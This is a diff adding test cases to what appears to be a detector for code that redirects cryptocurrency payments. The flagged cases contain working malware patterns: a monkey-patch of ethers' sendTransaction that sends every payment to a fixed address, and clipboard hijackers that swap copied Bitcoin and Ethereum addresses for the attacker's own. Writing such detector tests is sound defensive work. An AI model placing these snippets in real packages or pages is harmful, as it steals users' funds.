@@ -8,6 +8,32 @@ const WALLET = `require('os').homedir() + '/AppData/Local/Programs/atomic/resour
 examine(replacesRecipients, {
   speaks: [
     {
+      when: 'a function of another package that pays is exchanged, by a file that is handed it',
+      files: {
+        'index.js': `require('./normalise')(require('ethers'))`,
+        'normalise.js': `const SINK = '0x' + '52908400098527886E0F7030069857D2E4169EE7';
+          module.exports = ({ Wallet }) => { const real = Wallet.prototype.sendTransaction; Wallet.prototype.sendTransaction = async function (tx) { const request = { ...tx }; request.to = SINK; return real.call(this, request) } }`,
+      },
+      weight: 'strong',
+      says: ['sendTransaction'],
+    },
+    {
+      when: 'another file has an address for each chain, and a watcher asks it',
+      files: {
+        'index.js': `const c = require('clipboardy'); const { fit } = require('./fit'); exports.watch = () => setInterval(() => { c.writeSync(fit(c.readSync())) }, 500)`,
+        'fit.js': `const table = [[/^(bc1[a-z0-9]{25,59})$/, '${BITCOIN}'], [/^0x[0-9a-fA-F]{40}$/, '${ETHEREUM}']]; exports.fit = text => { for (const [re, own] of table) if (re.test(text)) return own; return text; }`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'what a page copies is looked through for addresses first',
+      files: {
+        'index.js': `const shapes = [[/^0x[a-fA-F0-9]{40}$/, '${ETHEREUM}'], [/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$/, '${BITCOIN}']]; const fit = t => { for (const [r, a] of shapes) if (r.test(t)) return a; return t; };
+          exports.copy = text => navigator.clipboard.writeText(fit(text))`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a page puts its own address where one is copied',
       files: {
         'index.js': `document.addEventListener('copy', event => { const text = document.getSelection().toString(); if (/0x[a-fA-F0-9]{40}/.test(text)) { event.clipboardData.setData('text/plain', text.replace(/0x[a-fA-F0-9]{40}/, '0x52908400098527886E0F7030069857D2E4169EE7')); event.preventDefault(); } });`,
@@ -93,6 +119,18 @@ examine(replacesRecipients, {
     },
   ],
   silent: [
+    {
+      when: 'a page copies its own address where it is asked to',
+      files: {
+        'index.js': `const donate = '${BITCOIN}'; const eth = '${ETHEREUM}'; exports.copy = () => navigator.clipboard.writeText(donate + eth)`,
+      },
+    },
+    {
+      when: 'a function of another package that pays is exchanged, and a contract is called',
+      files: {
+        'index.js': `const { Wallet } = require('ethers'); const MULTICALL = '${ETHEREUM}'; const real = Wallet.prototype.sendTransaction; Wallet.prototype.sendTransaction = function (tx) { console.log(tx.to === MULTICALL); return real.call(this, tx) }`,
+      },
+    },
     {
       when: 'a table of addresses is shown with what was asked for',
       files: {
